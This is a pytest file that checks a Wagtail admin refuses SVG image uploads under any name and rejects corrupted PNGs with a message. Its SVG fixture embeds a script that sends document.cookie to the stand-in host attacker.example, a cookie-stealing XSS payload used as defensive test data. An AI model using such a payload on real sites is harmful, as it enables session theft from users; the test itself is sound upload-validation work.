"""Editors' image uploads through the Wagtail admin: SVG is refused (it can carry script, and
would run on our origin), under its own name or another; a damaged PNG is refused with a message
instead of a server error."""

import io

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image as PILImage
from wagtail.images import get_image_model
from wagtail.models import Collection

pytestmark = pytest.mark.django_db

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://attacker.example/?c=' + document.cookie)</script>"
    b'<rect width="10" height="10"/></svg>'
)


def png(size: int = 64) -> bytes:
    picture = PILImage.effect_noise((size, size), 64).convert("RGB")
    output = io.BytesIO()
    picture.save(output, format="PNG")
    return output.getvalue()


@pytest.fixture
def editor() -> Client:
    client = Client()
    client.force_login(User.objects.create_superuser("uploader", password="x"))
    return client


def upload(client: Client, name: str, content: bytes, content_type: str):
    return client.post(
        "/admin/images/add/",
        {
            "title": name,
            "file": SimpleUploadedFile(name, content, content_type),
            "collection": Collection.get_first_root_node().pk,
        },
    )


def test_a_valid_png_is_accepted(editor):
    before = get_image_model().objects.count()
    assert upload(editor, "noise.png", png(), "image/png").status_code == 302
    assert get_image_model().objects.count() == before + 1


@pytest.mark.parametrize(
    ("name", "content_type"), [("drawing.svg", "image/svg+xml"), ("drawing.png", "image/png")]
)
def test_svg_is_refused_whatever_its_name(editor, name, content_type):
    before = get_image_model().objects.count()
    response = upload(editor, name, SVG, content_type)
    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    assert get_image_model().objects.count() == before


@pytest.mark.parametrize(
    "damage",
    [
        lambda whole: whole[:8] + b"garbage!" * 20,  # the PNG signature, then nothing readable
        lambda whole: whole[:29] + b"\0\0\0\0" + whole[33:],  # the header's checksum broken
    ],
    ids=["signature-only", "header-checksum"],
)
def test_a_damaged_png_is_refused_with_a_message(editor, damage):
    before = get_image_model().objects.count()
    response = upload(editor, "damaged.png", damage(png()), "image/png")
    assert response.status_code == 200
    assert "This image is damaged" in " ".join(response.context["form"].errors["file"])
    assert get_image_model().objects.count() == before
